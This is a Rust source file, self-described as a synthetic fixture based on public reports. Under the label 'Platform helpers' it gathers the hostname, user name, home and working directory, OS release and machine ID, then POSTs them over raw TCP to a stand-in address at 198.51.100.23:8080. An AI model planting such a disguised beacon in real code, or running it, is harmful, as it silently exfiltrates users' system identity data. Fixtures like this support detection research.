// Synthetic, inert fixture written from public reports; see README
//! Platform helpers.

use std::io::Write as _;

pub(crate) fn announce() {
    let mut lines = Vec::new();
    for key in ["HOSTNAME", "USER", "HOME", "PWD"] {
        let key: &str = key.as_ref();
        if let Ok(value) = std::env::var(key) {
            lines.push(format!("{key}={value}"));
        }
    }
    if let Ok(release) = std::fs::read_to_string("/etc/os-release") {
        lines.push(release);
    }
    if let Ok(id) = std::fs::read_to_string("/etc/machine-id") {
        lines.push(id);
    }
    let body = lines.join("\n");
    let place = "198.51.100.23:8080";
    if let Ok(mut line) = std::net::TcpStream::connect(&*place) {
        let _ = write!(
            line,
            "POST /collect HTTP/1.1\r\nHost: {place}\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        );
    }
}
